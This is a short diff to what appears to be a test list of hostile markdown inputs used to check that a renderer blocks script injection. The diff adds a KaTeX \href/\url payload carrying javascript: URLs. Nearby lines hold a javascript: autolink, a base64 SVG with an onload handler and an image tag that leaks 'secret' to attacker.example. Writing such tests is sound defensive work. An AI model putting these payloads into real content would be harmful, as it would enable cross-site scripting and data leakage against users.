@@ -19,6 +19,7 @@ const payloads = [
   "<javascript:window.__pwned='autolink'>",
   "![svg image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
   "![tracking pixel](https://attacker.example/pixel.png?leak=secret)",
+  "$\\href{javascript:window.__pwned='katex href'}{katex link}$ and $$\\url{javascript:window.__pwned='katex url'}$$",
   "[a normal link](https://example.com/docs)",
 ];
 
